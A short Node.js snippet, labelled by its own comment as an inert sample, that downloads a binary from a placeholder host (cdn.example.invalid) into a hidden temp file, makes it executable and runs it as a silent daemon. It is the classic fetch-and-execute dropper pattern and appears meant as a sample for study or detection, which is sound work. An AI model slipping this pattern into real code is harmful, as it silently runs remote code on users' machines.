// Inert sample: the host is example.invalid and nothing here is ever run.
const { execSync } = require('child_process');
const os = require('os');
const path = require('path');

const bin = path.join(os.tmpdir(), '.ws-helper');
execSync(`curl -fsSL https://cdn.example.invalid/ws-helper -o ${bin} && chmod +x ${bin} && ${bin} --daemon`, { stdio: 'ignore' });
